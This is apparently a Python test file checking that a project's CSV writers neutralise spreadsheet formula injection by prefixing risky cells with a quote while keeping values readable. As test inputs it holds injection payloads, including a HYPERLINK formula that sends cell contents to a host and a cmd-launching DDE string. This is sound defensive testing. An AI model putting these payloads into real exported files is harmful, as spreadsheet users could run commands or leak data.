"""Files that people open, and files that our code reads back."""

import csv
from pathlib import Path

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from headstart.common.files import as_cell, of_cell, write_csv
from headstart.dataset.ingest import Rejection, write_rejected
from headstart.dataset.manifest import FLAGS, make_manifest, read_manifest, write_manifest
from headstart.models.predictions import Predictions, read_predictions, write_predictions

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"open")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@given(st.text(max_size=6) | st.text("'=+-@\t\r1.e", max_size=8))
@example("-0.5")
@example("'=1")
@example("'-1")
def test_no_text_begins_a_formula_and_all_of_it_comes_back(text: str) -> None:
    cell = as_cell(text)
    assert of_cell(cell) == text
    if cell.startswith(DANGEROUS):
        assert float(cell) == float(text)


@pytest.mark.parametrize("number", ["-0.5", "+1", "-1e-05", "-.5", "1.5E+3", -0.5, -3, None, True])
def test_numbers_stay_numbers(number: object) -> None:
    assert as_cell(number) is number


@pytest.mark.parametrize("text", ["-1+2", "+cmd|' /C calc'!A0", "-", "-inf", "@SUM(A1)", "\t=1"])
def test_what_only_begins_as_a_number_does_not_run(text: str) -> None:
    assert as_cell(text) == f"'{text}"


def first_characters(path: Path) -> set[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return {cell[:1] for row in csv.reader(stream) for cell in row}


def test_tables_of_names_do_not_run_and_are_read_back(tmp_path: Path) -> None:
    names = [FORMULA, "-2+3/a.png", "'@a/b.png", "plain/c.png"]
    path = tmp_path / "table.csv"
    write_rejected(path, [Rejection(name, name, "reason", name) for name in names])
    assert first_characters(path).isdisjoint(DANGEROUS)

    probabilities = np.array([[-0.5, 0.5], [0.25, 0.75], [1, 0], [0, 1]])
    part = Predictions(
        ("=a", "b"), "test", tuple(names), ("0" * 64,) * 4, np.array([0, 1, 0, 1]), probabilities
    )
    write_predictions(path, [part])
    assert first_characters(path) - {"-"} <= {"'", "p", "l", "s", "b", "t", "0", "1"}
    found = read_predictions(path, "test")
    assert (found.paths, found.classes) == (part.paths, part.classes)
    np.testing.assert_array_equal(found.label_ids, part.label_ids)
    np.testing.assert_array_equal(found.probabilities, probabilities)

    columns: dict[str, object] = {
        "path": names,
        "label": ["=a", "b", "=a", "b"],
        "sha256": ["0" * 64] * 4,
        "split": ["train"] * 4,
        "group": ["+g", "-1", "'", ""],
        **dict.fromkeys(("size_bytes", "width", "height"), [1] * 4),
        **dict.fromkeys(("split_given", *FLAGS), [False] * 4),
    }
    manifest = make_manifest(columns)  # type: ignore[arg-type]
    write_manifest(path, manifest)
    assert first_characters(path).isdisjoint(set(DANGEROUS) - {"-"})
    again = read_manifest(path)
    assert again.classes == ("=a", "b")
    assert again.table.equals(manifest.table)


def test_headers_do_not_run(tmp_path: Path) -> None:
    write_csv(tmp_path / "confusion.csv", ["class", "=a"], [["=a", -1.5]])
    assert (tmp_path / "confusion.csv").read_text() == "class,'=a\n'=a,-1.5\n"
